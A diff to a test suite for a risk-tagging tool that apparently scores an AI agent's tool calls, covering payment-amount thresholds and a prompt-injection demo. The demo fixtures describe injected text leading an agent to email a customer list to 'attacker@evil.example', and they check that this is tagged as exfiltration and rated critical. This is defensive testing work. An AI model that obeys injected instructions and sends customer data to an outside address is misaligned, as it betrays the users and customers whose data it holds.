@@ -31,7 +31,7 @@ describe("amounts", () => {
     const tags = tagsFor({ invoiceId: "INV-1", refund: { amount_minor: 150_000 } }, ["financial"]);
     const t = tags.find((x) => x.id === "amount.over-threshold");
     expect(t).toMatchObject({ severity: "high", path: "refund.amount_minor", source: "argument" });
-    expect(t?.reason).toContain("1500.00");
+    expect(t?.reason).toBe("amount_minor is 1,500.00, above the 1,000.00 threshold.");
     expect(ids(tagsFor({ amount_minor: 100_000 }))).not.toContain("amount.over-threshold");
     expect(ids(tagsFor({ amount_minor: 600 }, ["financial"], { amountThresholdMinor: 500 }))).toContain("amount.over-threshold");
     expect(ids(tagsFor({ totalCents: "250000" }))).toContain("amount.over-threshold");
@@ -324,21 +324,45 @@ describe("the prompt-injection demo", () => {
     const by = (id: string) => tags.filter((t) => t.id === id);
     expect(by("recipient.outside-domain")[0]).toMatchObject({ severity: "high", path: "to", source: "argument" });
     expect(by("provenance.untrusted").map((t) => t.path).sort()).toEqual(["body", "to"]);
-    expect(by("provenance.untrusted").every((t) => t.severity === "high")).toBe(true);
+    expect(by("provenance.untrusted").every((t) => t.severity === "medium")).toBe(true);
+    expect(by("exfiltration.outside-recipient")[0]).toMatchObject({ severity: "critical", path: "to" });
     expect(by("injection.override-instructions")[0]).toMatchObject({ severity: "critical", path: "body" });
     expect(by("injection.send-to-address")[0]?.path).toBe("body");
     expect(riskLevel(tags)).toBe("critical");
     expect(tags[0]?.severity).toBe("critical");
   });
 
-  it("is still high when the body carries only the data, not the instruction", () => {
+  it("is critical when the body carries only the data: the agent read the instruction and the recipient is outside", () => {
     const tags = riskTagsFor({
       tool: "send_email",
       toolClass: ["external-comms"],
       args: { to: "attacker@evil.example", subject: "Customer list", body: "Acme Ltd, ap@acme.example\nGlobex" },
       context: { ...domains, untrustedValues: [note] },
     });
-    expect(ids(tags)).toEqual(expect.arrayContaining(["recipient.outside-domain", "provenance.untrusted", "untrusted-input.override-instructions"]));
+    expect(ids(tags)).toEqual(expect.arrayContaining(["recipient.outside-domain", "provenance.untrusted", "untrusted-input.override-instructions", "exfiltration.outside-recipient"]));
+    expect(riskLevel(tags)).toBe("critical");
+    // The passage the agent read is quoted whole, not cut at the reason's ~50 characters.
+    expect(tags.find((t) => t.id === "untrusted-input.override-instructions")?.quote).toBe(note);
+  });
+
+  it("a routine reminder to the customer's verified address, copied from a lookup, is medium", () => {
+    const lookup = "Acme Corporation <billing@acme.example>, INV-1042 overdue by 14 days";
+    const tags = riskTagsFor({
+      tool: "send_email",
+      toolClass: ["external-comms", "pii"],
+      args: { to: "billing@acme.example", subject: "Payment reminder for INV-1042", body: "Dear Acme Corporation, INV-1042 is overdue by 14 days." },
+      context: { ...domains, customerVerifiedDomains: ["acme.example"], untrustedValues: ["billing@acme.example", lookup] },
+    });
+    expect(tags.find((t) => t.id === "provenance.untrusted" && t.path === "to")?.severity).toBe("low");
+    expect(ids(tags)).not.toContain("exfiltration.outside-recipient");
+    expect(riskLevel(tags)).toBe("medium");
+  });
+
+  it("an outside recipient with no untrusted text involved stays high, not critical", () => {
+    const tags = riskTagsFor({
+      tool: "send_email", toolClass: ["external-comms"], args: { to: "someone@elsewhere.example", subject: "Hi", body: "Hello" }, context: domains,
+    });
+    expect(ids(tags)).not.toContain("exfiltration.outside-recipient");
     expect(riskLevel(tags)).toBe("high");
   });
 });
